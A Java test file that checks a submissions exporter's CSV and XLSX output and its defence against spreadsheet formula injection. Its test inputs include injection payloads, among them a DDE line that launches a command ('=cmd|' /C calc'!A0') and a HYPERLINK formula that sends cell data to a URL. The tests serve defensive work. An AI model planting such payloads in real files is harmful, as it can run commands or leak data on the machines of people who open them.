package dev.lethe.ui.submissions;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.time.Instant;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.dhatim.fastexcel.reader.Sheet;

/** What is written is what independent readers find, whatever was typed. */
class ExportFilesTest {

    private static final Instant AT = Instant.parse("2026-07-01T22:59:58.123456Z");
    private static final List<String> HEADS = List.of("Reference", "Received (UTC)", "One", "Two");
    private static final XlsxFile.Words WORDS = new XlsxFile.Words("Submissions", "[Cut here]");

    private interface Maker {
        ExportFile make(ByteArrayOutputStream out) throws IOException;
    }

    private static byte[] written(Maker maker, List<List<String>> rows) {
        try {
            var out = new ByteArrayOutputStream();
            ExportFile file = maker.make(out);
            for (List<String> row : rows) file.row("K7Q-F3MX-PRT", AT, row);
            file.finish();
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] csv(List<List<String>> rows) {
        return written(out -> new CsvFile(out, HEADS), rows);
    }

    private static byte[] xlsx(List<List<String>> rows) {
        return written(out -> new XlsxFile(out, HEADS, WORDS), rows);
    }

    private static List<List<String>> readCsv(byte[] file) {
        return CsvReader.builder()
                .detectBomHeader(true)
                .skipEmptyLines(false)
                .ofCsvRecord(new ByteArrayInputStream(file))
                .stream()
                .map(CsvRecord::getFields)
                .toList();
    }

    private static List<Sheet> sheets(byte[] file, List<List<Row>> rows) {
        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(file))) {
            List<Sheet> sheets = workbook.getSheets().toList();
            for (Sheet sheet : sheets) rows.add(sheet.read());
            return sheets;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static List<Row> readXlsx(byte[] file) {
        List<List<Row>> rows = new ArrayList<>();
        sheets(file, rows);
        return rows.getFirst();
    }

    /** A cell that begins with an apostrophe had one added. */
    private static String original(String cell) {
        return cell.startsWith("'") ? cell.substring(1) : cell;
    }

    @Property(tries = 300)
    void f16_what_is_in_a_csv_file_is_what_was_submitted(@ForAll("hostile") List<String> typed) {
        List<List<String>> rows =
                typed.stream().map(text -> List.of(text, "x" + text)).toList();

        List<List<String>> read = readCsv(csv(rows));

        assertThat(read.getFirst()).isEqualTo(HEADS);
        assertThat(read.stream().skip(1).map(row -> List.of(original(row.get(2)), row.get(3))))
                .isEqualTo(rows);
    }

    @Property(tries = 300)
    void f16_what_is_in_an_xlsx_file_is_what_was_submitted_as_text(@ForAll("hostile") List<String> typed) {
        List<List<String>> rows = typed.stream().map(text -> List.of(text, "x")).toList();

        List<Row> read = readXlsx(xlsx(rows));

        assertThat(read.getFirst().stream().map(Cell::getText)).isEqualTo(HEADS);
        assertThat(read.stream()
                        .skip(1)
                        .map(row -> row.getCellText(2))
                        .map(ExportFilesTest::unescaped)
                        .toList())
                .isEqualTo(typed.stream()
                        .map(text -> text.replace("\r\n", "\n").replace('\r', '\n'))
                        .toList());
        for (Row row : read.subList(1, read.size()))
            row.getOptionalCell(2).ifPresent(cell -> assertThat(cell.getType()).isEqualTo(CellType.STRING));
    }

    /** As Excel reads _x005F_, and this reader does not. */
    private static String unescaped(String text) {
        return Pattern.compile("_x005F_").matcher(text).replaceAll("_");
    }

    /** Everything that a form takes: any sign but NUL, controls and halves, and often one that makes a formula. */
    @Provide
    Arbitrary<List<String>> hostile() {
        Arbitrary<String> start = Arbitraries.of(
                "",
                "=",
                "+",
                "-",
                "@",
                "\t",
                "\r",
                "\n",
                "＝",
                "＋",
                "－",
                "＠",
                "'",
                "''=",
                " =",
                "\u00a0=",
                "\u200b@",
                "\"",
                ",",
                ";",
                "\r\n",
                "=1+1\",=2",
                "<t>",
                "&",
                "]]>",
                "_x000D_",
                "_x_x0041_",
                "😀",
                "%0A=",
                "|");
        Arbitrary<String> rest = Arbitraries.strings()
                .withCharRange('\u0020', '\u007E')
                .withCharRange('\u00A0', '\uD7FF')
                .withCharRange('\uE000', '\uFFFD')
                .withChars('\n', '\t', ',', '"', '\'', '=')
                .ofMaxLength(40);
        return net.jqwik.api.Combinators.combine(start, rest)
                .as(String::concat)
                .list()
                .ofMaxSize(20);
    }

    @Example
    void fw5_what_a_spreadsheet_would_run_gets_an_apostrophe_in_csv() {
        for (String formula : List.of(
                "=1+1",
                "+1",
                "-1+2",
                "@SUM(1)",
                "\t=1",
                "\r=1",
                "\n=1",
                "＝1+1",
                "＋1",
                "－1",
                "＠SUM(1)",
                " =1+1",
                "\u00a0=1",
                "\u200b=1",
                "\ufeff=1",
                "\u0001=1",
                "=HYPERLINK(\"http://example.org/?\"&A1,\"Click\")",
                "=cmd|' /C calc'!A0",
                "+44 1296 395000",
                "-",
                "-1e5",
                "-1,5",
                "'=1")) assertThat(CsvFile.cell(formula)).as(formula).isEqualTo("'" + formula);
    }

    @Example
    void fw5_what_is_harmless_stays_as_it_was_typed() {
        for (String plain :
                List.of("", "1=1", "a-b", "-5", "-12.75", "5", "O'Neil", "ann@example.org", "x\n=1", " a =1", "–5"))
            assertThat(CsvFile.cell(plain)).as(plain).isEqualTo(plain);
    }

    @Example
    void fw5_headings_are_defended_like_answers() {
        byte[] file = written(out -> new CsvFile(out, List.of("Reference", "Received (UTC)", "=1+1")), List.of());

        assertThat(readCsv(file).getFirst().get(2)).isEqualTo("'=1+1");
    }

    @Example
    void fw5_no_cell_of_an_xlsx_file_is_a_formula() {
        List<Row> rows = readXlsx(xlsx(List.of(List.of("=1+1", "@SUM(1)"))));

        assertThat(rows.get(1).getCell(2).getType()).isEqualTo(CellType.STRING);
        assertThat(rows.get(1).getCell(2).getFormula()).isNull();
        assertThat(rows.get(1).getCellText(2)).isEqualTo("=1+1");
    }

    @Example
    void f16_times_are_utc_with_offset_in_csv_and_naive_in_xlsx() {
        List<List<String>> row = List.of(List.of("", ""));

        assertThat(readCsv(csv(row)).get(1).get(1)).isEqualTo("2026-07-01T22:59:58+00:00");
        assertThat(readXlsx(xlsx(row)).get(1).getCellAsDate(1).orElseThrow())
                .isEqualTo(LocalDateTime.of(2026, 7, 1, 22, 59, 58));
    }

    @Example
    void a_csv_file_begins_with_the_mark_that_excel_needs() {
        byte[] file = csv(List.of());

        assertThat(new byte[] {file[0], file[1], file[2]}).containsExactly(0xef, 0xbb, 0xbf);
    }

    @Example
    void what_a_file_cannot_hold_is_shown_and_not_dropped() {
        String controls = "a\u0001b\ud800c\uffffd";

        assertThat(readCsv(csv(List.of(List.of(controls, "")))).get(1).get(2)).isEqualTo("a\u0001b\ufffdc\uffffd");
        assertThat(readXlsx(xlsx(List.of(List.of(controls, "")))).get(1).getCellText(2))
                .isEqualTo("a␁b\ufffdc\ufffdd");
    }

    @Example
    void a_text_that_is_too_long_for_a_cell_of_excel_says_where_it_was_cut() {
        String fits = "y".repeat(XlsxFile.CHARACTERS);
        String tooLong = "x".repeat(XlsxFile.CHARACTERS - 12) + "😀".repeat(20);

        Row row = readXlsx(xlsx(List.of(List.of(fits, tooLong)))).get(1);

        assertThat(row.getCellText(2)).isEqualTo(fits);
        assertThat(row.getCellText(3))
                .hasSizeLessThanOrEqualTo(XlsxFile.CHARACTERS)
                .startsWith("x".repeat(30_000))
                .endsWith("x\n[Cut here]");
        assertThat(readCsv(csv(List.of(List.of(fits, tooLong)))).get(1).get(3)).isEqualTo(tooLong);
    }

    @Example
    void a_full_sheet_goes_on_in_a_further_one_with_the_same_headings() {
        List<List<String>> rows =
                IntStream.rangeClosed(1, 25).mapToObj(n -> List.of("n" + n, "")).toList();
        List<List<Row>> read = new ArrayList<>();

        List<Sheet> sheets = sheets(written(out -> new XlsxFile(out, HEADS, WORDS, 11), rows), read);

        assertThat(sheets).extracting(Sheet::getName).containsExactly("Submissions", "Submissions 2", "Submissions 3");
        assertThat(read)
                .allSatisfy(sheet -> assertThat(sheet.getFirst().getCellText(2)).isEqualTo("One"));
        assertThat(read.stream().flatMap(sheet -> sheet.stream().skip(1)).map(row -> row.getCellText(2)))
                .containsExactlyElementsOf(
                        rows.stream().flatMap(row -> Stream.of(row.getFirst())).toList());
    }
}
